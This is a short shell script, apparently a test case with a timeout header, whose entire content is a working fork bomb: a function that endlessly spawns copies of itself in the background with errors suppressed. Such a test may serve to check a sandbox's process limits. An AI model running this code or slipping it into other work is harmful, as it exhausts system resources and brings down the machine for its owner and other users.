# Doubles itself in the background without end.
# timeout: 1500
f() { f & f & }
while :; do f; done 2>/dev/null
